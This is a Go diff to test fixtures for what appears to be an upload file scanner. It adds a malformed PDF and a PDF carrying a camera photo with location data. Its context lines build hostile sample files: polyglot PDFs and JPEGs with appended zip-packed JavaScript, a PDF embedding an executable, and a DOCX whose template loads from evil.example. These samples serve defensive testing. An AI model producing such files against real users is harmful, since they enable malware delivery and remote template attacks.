@@ -45,6 +45,7 @@ func Samples() []Sample {
 		{Name: "lampiran.pdf", Data: PDF(1, "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>] >> >>"), Code: "file_holds_files"},
 		{Name: "terkunci.pdf", Data: bytes.Replace(PDF(1, ""), []byte("trailer\n<<"), []byte("trailer\n<< /Encrypt << /Filter /Standard /V 1 /R 2 >>"), 1), Code: "file_locked"},
 		{Name: "tebal.pdf", Data: PDF(10_000, ""), Code: "file_too_many_pages"},
+		{Name: "pohon.pdf", Data: bytes.Replace(PDF(1, ""), []byte("[ 3 0 R ]"), []byte("[3 0 R 3 0 R]"), 1), Code: "file_damaged"},
 		{Name: "pdf-zip.pdf", Data: append(PDF(1, ""), Zip(map[string]string{"a.js": "alert(1)"})...), Code: "file_two_in_one"},
 		{Name: "awal.pdf", Data: append([]byte("GIF89a/*"), PDF(1, "")...), Code: "file_two_in_one"},
 		{Name: "jpeg-zip.jpg", Data: append(JPEG(1, false), Zip(map[string]string{"a.js": "alert(1)"})...), Code: "file_two_in_one"},
@@ -69,6 +70,7 @@ func Samples() []Sample {
 		{Name: "foto.heic", Data: HEIC(), Type: "image/heic", Notes: []string{"location", "details"}},
 		{Name: "film.mp4", Data: MP4(), Type: "video/mp4", Notes: []string{"location", "details"}},
 		{Name: "templat.docx", Data: DOCX(map[string]string{"word/_rels/settings.xml.rels": rels(`<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`)}), Type: docxType, Notes: []string{"links"}},
+		{Name: "pindai.pdf", Data: PDFPhoto(photo), Type: "application/pdf", Notes: []string{"location"}},
 		{Name: "foto.docx", Data: DOCX(map[string]string{"word/media/a.jpeg": string(photo)}), Type: docxType, Notes: []string{"location"}},
 		{Name: "latin.csv", Data: []byte("nama;suhu\nSiti;21\xb0C\nBudi;22\xb0C\n"), Type: "text/plain", Notes: []string{"encoding"}},
 		{Name: "utf16.txt", Data: UTF16("nama\tjumlah\r\nSiti\t5\r\n"), Type: "text/csv", Notes: []string{"encoding"}},
@@ -159,6 +161,12 @@ func PDFObjects(hidden string) []byte {
 	must(z.Close())
 	stream := fmt.Sprintf("8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n", packed.Len(), packed.String())
 	return bytes.Replace(PDF(1, "/OpenAction 9 0 R"), []byte("xref\n0"), []byte(stream+"xref\n0"), 1)
+}
+
+// PDFPhoto is a document with a photograph as the camera made it.
+func PDFPhoto(photo []byte) []byte {
+	stream := fmt.Sprintf("8 0 obj\n<< /Type /XObject /Subtype /Image /Width 64 /Height 48 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n", len(photo), photo)
+	return bytes.Replace(PDF(1, ""), []byte("xref\n0"), []byte(stream+"xref\n0"), 1)
 }
 
 // PDFBomb is a small document with so many streams that unpack to 64 MiB each.
